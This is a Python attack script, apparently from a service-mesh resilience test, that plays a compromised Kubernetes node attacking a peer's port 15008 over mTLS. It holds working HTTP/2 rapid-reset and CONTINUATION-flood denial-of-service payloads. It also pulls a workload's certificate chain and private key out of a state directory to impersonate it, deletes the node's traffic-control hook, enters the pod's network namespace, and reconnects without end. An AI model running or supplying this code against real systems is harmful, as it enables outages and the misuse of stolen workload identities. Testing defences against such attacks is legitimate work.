"""A node that was taken over floods another with frames until it is killed: no hook, and the certificate of one of its
workloads. Runs in the node's own namespace. argv: kind netns veth state namespace/account host authority sni forwarded.
rapid-reset: streams that are reset as soon as they are asked for; continuation: heads that never end. The peer hangs up on
either; then it dials again."""

import contextlib
import ctypes
import json
import os
import socket
import ssl
import struct
import subprocess
import sys
import tempfile
from pathlib import Path

import h2.config
import h2.connection

kind, netns, veth, state, who, host, authority, sni, forwarded = sys.argv[1:10]
STREAMS = 2000
BATCH = 20


def frame(type_: int, flags: int, stream: int, body: bytes = b"") -> bytes:
    return struct.pack("!I", len(body))[1:] + struct.pack("!BBI", type_, flags, stream) + body


def rapid_reset() -> list[bytes]:
    """What one connection sends: the same bytes on each."""
    peer = h2.connection.H2Connection(
        h2.config.H2Configuration(client_side=True, header_encoding="utf-8", validate_outbound_headers=False)
    )
    peer.initiate_connection()
    pieces = []
    for index in range(STREAMS):
        peer.send_headers(2 * index + 1, [(":method", "CONNECT"), (":authority", authority), ("forwarded", forwarded)])
        peer.reset_stream(2 * index + 1, 8)
        if index % BATCH == BATCH - 1:
            pieces.append(peer.data_to_send())
    return pieces


def continuation() -> list[bytes]:
    begin = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0) + frame(1, 0, 1, b"\x00\x01a\x01b")
    return [begin] + [frame(9, 0, 1, (b"\x00\x01a\x7f\x81\x07" + b"b" * 262) * 50)] * STREAMS


def certified() -> ssl.SSLContext:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.load_verify_locations(Path(state) / "bundle.pem")
    namespace, account = who.split("/")
    for path in Path(state).rglob("*"):
        if path.is_file() and b'"chain"' in (text := path.read_bytes()):
            stored = json.loads(text)
            if stored["spiffe"].endswith(f"/ns/{namespace}/sa/{account}"):
                with tempfile.NamedTemporaryFile("w") as pem:
                    pem.write(stored["chain"] + stored["key"])
                    pem.flush()
                    context.load_cert_chain(pem.name)
    context.set_alpn_protocols(["h2"])
    return context


pieces, context = {"rapid-reset": rapid_reset, "continuation": continuation}[kind](), certified()
own = os.open("/proc/self/ns/net", os.O_RDONLY)
pod = os.open(netns, os.O_RDONLY)
libc = ctypes.CDLL(None, use_errno=True)


def enter(namespace: int) -> None:
    if libc.setns(namespace, 0):
        raise OSError(ctypes.get_errno(), "setns")


while True:
    enter(own)
    subprocess.run(["tc", "qdisc", "del", "dev", veth, "clsact"], stderr=subprocess.DEVNULL, check=False)  # the agent repairs it
    enter(pod)
    with contextlib.suppress(OSError):
        plain = socket.create_connection((host, 15008), 2)
        with context.wrap_socket(plain, server_hostname=sni) as sock:
            for piece in pieces:
                sock.sendall(piece)
            while sock.recv(65536):
                pass
